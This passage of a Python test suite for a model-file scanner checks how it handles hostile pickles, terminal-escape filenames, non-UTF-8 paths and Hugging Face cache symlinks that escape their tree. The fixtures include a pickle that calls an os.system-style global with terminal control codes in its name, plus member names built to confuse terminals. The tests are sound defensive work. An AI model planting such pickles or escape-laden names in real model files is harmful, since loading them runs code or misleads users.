    must_contain(text, ['!"m/\\u009b[2J\\u202edata.pkl"', '!"m/\\x9b\\xff\\xe2\\x80.pkl"'],
                 "member names")
    code, out, _ = run_bytes("inspect", p)
    text = terminal_safe(out, "inspect")
    must_contain(text, ['"m/\\x9b\\xff\\xe2\\x80.pkl":'], "inspect import member")
    # Pickle globals: a module with an encoded CSI, a name with an RLO and NEL
    # (a module name that is not UTF-8 is a malformed pickle, named without it).
    pk = b"cos\xc2\x9b[2J\nsys\xe2\x80\xaetem\xc2\x85\n(S'id'\ntR."
    q = write(d, "g.pkl", pk)
    code, out, _ = run_bytes("scan", q)
    eq(code, 1, "pickle exit")
    text = terminal_safe(out, "scan pickle")
    must_contain(text, ['"os\\u009b[2J.sys\\u202etem\\u0085"'], "global in a finding")
    code, out, _ = run_bytes("inspect", q)
    text = terminal_safe(out, "inspect pickle")
    must_contain(text, ['"os\\u009b[2J.sys\\u202etem\\u0085"  '], "global in the imports list")


@test
def json_keeps_non_utf8_paths_apart_with_path_bytes(d):
    base = os.fsencode(d)
    names = [b"a\xff.safetensors", b"a\xfe.safetensors", b"a\\xff.safetensors", b"ok.safetensors"]
    for n in names:
        with open(os.path.join(base, n), "wb") as f:
            f.write(GOOD)
    code, out, _ = run_bytes("scan", "-f", "json", base)
    eq(code, 0, "exit")
    files = json.loads(out)["files"]
    got = sorted((f["path"], f.get("path_bytes", "")) for f in files)
    pre = d + "/"
    # A UTF-8 path is written as it is (backslash and all) without
    # path_bytes; a non-UTF-8 one escaped, with its bytes: (path, path_bytes)
    # differs for any two files, and path alone among the non-UTF-8 ones.
    eq(got, sorted([(pre + "a\\xff.safetensors", ""),
                    (pre + "a\\xfe.safetensors", (base + b"/a\xfe.safetensors").hex()),
                    (pre + "a\\xff.safetensors", (base + b"/a\xff.safetensors").hex()),
                    (pre + "ok.safetensors", "")]), "paths")
    for f in files:
        if "path_bytes" in f:
            eq(os.path.exists(bytes.fromhex(f["path_bytes"])), True, "path_bytes names the file")
    # inspect -f json: the same fields.
    code, out, _ = run_bytes("inspect", "-f", "json", os.path.join(base, b"a\xff.safetensors"))
    doc = json.loads(out)
    eq((doc["path"], doc["path_bytes"]),
       (pre + "a\\xff.safetensors", (base + b"/a\xff.safetensors").hex()), "inspect path")
    code, out, _ = run_bytes("inspect", "-f", "json", os.path.join(base, b"ok.safetensors"))
    eq("path_bytes" in json.loads(out), False, "no path_bytes for a UTF-8 path")


@test
def inspect_json_streams_to_stdout_and_to_o_file_alike(d):
    p = write(d, "m.safetensors", HOSTILE_ST)
    code, out, _ = run_bytes("inspect", "-f", "json", p)
    eq(code, 0, "stdout exit")
    # The streamed document is laid out as nlohmann's dump(2) laid out the
    # tree it replaced (which Python's indent=2 matches), escapes and all.
    for doc_bytes in (out, run_bytes("inspect", "-f", "json",
                                     write(d, "z.pt", zip_bytes([("m/data.pkl", OS_SYSTEM)])))[1]):
        text = doc_bytes.decode("utf-8")
        eq(text, json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n", "layout")
    os.unlink(os.path.join(d, "z.pt"))
    o = os.path.join(d, "r.json")
    write(d, "r.json", b"old")
    os.chmod(o, 0o600)
    code, _, err = run_bytes("inspect", "-f", "json", "-o", o, p)
    eq((code, err), (0, b""), "-o exit")
    with open(o, "rb") as f:
        eq(f.read(), out, "-o holds the same document")
    eq(os.stat(o).st_mode & 0o777, 0o600, "an existing file keeps its mode")
    eq(sorted(os.listdir(d)), ["m.safetensors", "r.json"], "no temp file left")
    code, _, _ = run_bytes("inspect", "-f", "json", "-o", os.path.join(d, "no", "r.json"), p)
    eq(code, 2, "unwritable -o is exit 2")


@test
def json_keeps_non_utf8_members_apart_with_member_bytes(d):
    z = zip_bytes([("m/XXXX.pkl", OS_SYSTEM), ("m/YYYY.pkl", OS_SYSTEM), ("m/ok.pkl", OS_SYSTEM)])
    z = z.replace(b"m/XXXX.pkl", b"m/a\xff\\b.pkl").replace(b"m/YYYY.pkl", b"m/a\xfe\\b.pkl")
    p = write(d, "m.pt", z)
    code, doc, _ = scan_json(p)
    eq(code, 1, "exit")
    crit = [x for x in doc["files"][0]["findings"] if x["id"] == "MG-PK-CRITICAL-IMPORT"]
    got = sorted((x["member"], x.get("member_bytes")) for x in crit)
    eq(got, [("m/a\\xfe\\\\b.pkl", b"m/a\xfe\\b.pkl".hex()),
             ("m/a\\xff\\\\b.pkl", b"m/a\xff\\b.pkl".hex()),
             ("m/ok.pkl", None)], "members")
    code, out, _ = run("inspect", "-f", "json", p)
    got = sorted((i["member"], i.get("member_bytes")) for i in json.loads(out)["imports"])
    eq(got[0], ("m/a\\xfe\\\\b.pkl", b"m/a\xfe\\b.pkl".hex()), "inspect import member")


# ---- Hugging Face cache layout (issue 9 point 6; helper H4) -----------------
# A link in models--X/snapshots/<rev>/ that resolves to a regular file
# directly in models--X/blobs/ is judged as that blob, reported under the
# link's path with the blob as "target"; every other link keeps the walk's
# rules (out of the tree or dangling: MG-FS-SYMLINK-ESCAPE).


def hf_repo(d, name, blobs):
    """hub/models--NAME with blobs/<sha256 of content> for each content."""
    repo = os.path.join(d, "hub", "models--" + name)
    paths = {}
    for key, data in blobs.items():
        paths[key] = write(repo, "blobs/" + hashlib.sha256(data).hexdigest(), data)
    return repo, paths


def hf_link(repo, rel, target):
    link = os.path.join(repo, "snapshots", "rev0", rel)
    os.makedirs(os.path.dirname(link), exist_ok=True)
    os.symlink(target, link)
    return link


@test
def hf_cache_snapshot_links_are_judged_as_their_blobs(d):
    repo, blob = hf_repo(d, "org--m", {"good": GOOD, "bad": OVERLAP, "pk": PICKLE})
    rel = lambda key, depth=2: "../" * depth + "blobs/" + os.path.basename(blob[key])  # noqa: E731
    hf_link(repo, "model.safetensors", rel("good"))
    hf_link(repo, "bad.safetensors", rel("bad"))
    hf_link(repo, "pytorch_model.bin", rel("pk"))
    hf_link(repo, "sub/nested.safetensors", rel("good", 3))
    hf_link(repo, "absolute.safetensors", blob["good"])
    snap = os.path.join(repo, "snapshots", "rev0")
    code, doc, _ = scan_json(snap)
    eq(code, 1, "exit: the overlap and the pickle are rejected")
    by = {os.path.relpath(f["path"], snap): f for f in doc["files"]}
    eq(sorted(by), ["absolute.safetensors", "bad.safetensors", "model.safetensors",
                    "pytorch_model.bin", "sub/nested.safetensors"], "one entry per link")
    for name in ("model.safetensors", "sub/nested.safetensors", "absolute.safetensors"):
        f = by[name]
        eq((f["verdict"], f["format"], f["size"], f["target"]),
           ("pass", "safetensors", len(GOOD), blob["good"]), name)
        eq(f.get("tensors"), 2, name + " tensors")
    eq((by["bad.safetensors"]["verdict"], by["bad.safetensors"]["target"]),
       ("reject", blob["bad"]), "bad verdict")
    eq(ids(by["bad.safetensors"])[0], "MG-ST-OVERLAP", "bad judged by content")
    eq(by["pytorch_model.bin"]["verdict"], "reject", "pickle blob rejected")
    eq(by["pytorch_model.bin"]["format"], "pickle", "pickle blob format")
    # Scanning the whole repository: the blobs are also judged under their
    # own names, and nothing else gets a target.
    code, doc, _ = scan_json(repo)
    eq(code, 1, "repo exit")
    names = {os.path.relpath(f["path"], repo): f for f in doc["files"]}
    eq(names["blobs/" + os.path.basename(blob["good"])]["verdict"], "pass", "blob itself")
    eq("target" in names["blobs/" + os.path.basename(blob["good"])], False, "no target on a blob")
    eq(names["snapshots/rev0/model.safetensors"]["target"], blob["good"], "target in repo scan")
    # check under a policy judges the blob too (signatures required: missing).
    pol = write(d, "p.yaml", b"apiVersion: modelgate/v1\nkind: Policy\nfailOn: high\n")
    code, out, _ = run("check", "--policy", pol, "-f", "json",
                       os.path.join(snap, "model.safetensors"), os.path.join(snap, "sub"))
    eq(code, 0, "check of a named link and of a snapshot subdirectory: " + out)
    files = json.loads(out)["files"]
    eq([f["verdict"] for f in files], ["pass", "pass"], "check verdicts")
    eq("target" in files[0], False, "a link named on the command line is followed, no target")
    eq(files[1]["target"], blob["good"], "walked snapshot link has its target")


@test
def hf_cache_links_elsewhere_keep_the_symlink_rules(d):
    outside = write(d, "outside.safetensors", GOOD)
    repo, blob = hf_repo(d, "org--m", {"good": GOOD})
    other, other_blob = hf_repo(d, "org--other", {"good": GOOD})
    # A "blob" that is itself a link (to a file out of the cache).
    os.symlink(outside, os.path.join(repo, "blobs", "linked"))
    escapes = {
        "other-repo.safetensors": "../../../models--org--other/blobs/" +
                                  os.path.basename(other_blob["good"]),
        "out-of-cache.safetensors": outside,
        "blob-is-a-link.safetensors": "../../blobs/linked",
        "dotdot.safetensors": "../../blobs/../../../outside.safetensors",
        "dangling.safetensors": "../../blobs/missing",
    }
    for name, target in escapes.items():
        hf_link(repo, name, target)
    # Not under snapshots/<rev>/: ordinary in-tree link, scanned where it points.
    os.symlink("blobs/" + os.path.basename(blob["good"]), os.path.join(repo, "top.safetensors"))
    # Under snapshots/ but not in a revision directory.
    os.symlink("../blobs/" + os.path.basename(blob["good"]),
               os.path.join(repo, "snapshots", "loose.safetensors"))
    code, doc, _ = scan_json(repo)
    eq(code, 1, "exit")
    by = {os.path.relpath(f["path"], repo): f for f in doc["files"]}
    for name in escapes:
        f = by["snapshots/rev0/" + name]
        eq((f["verdict"], ids(f)), ("reject", ["MG-FS-SYMLINK-ESCAPE"]), name)
        eq("target" in f, False, name + " has no target")
    for name in ("top.safetensors", "snapshots/loose.safetensors"):
        eq((by[name]["verdict"], ids(by[name])), ("pass", ["MG-FS-SYMLINK"]), name)
        eq("target" in by[name], False, name + " has no target")
    eq(ids(by["blobs/linked"]), ["MG-FS-SYMLINK-ESCAPE"], "the linked blob itself")


if __name__ == "__main__":
    sys.exit(main())
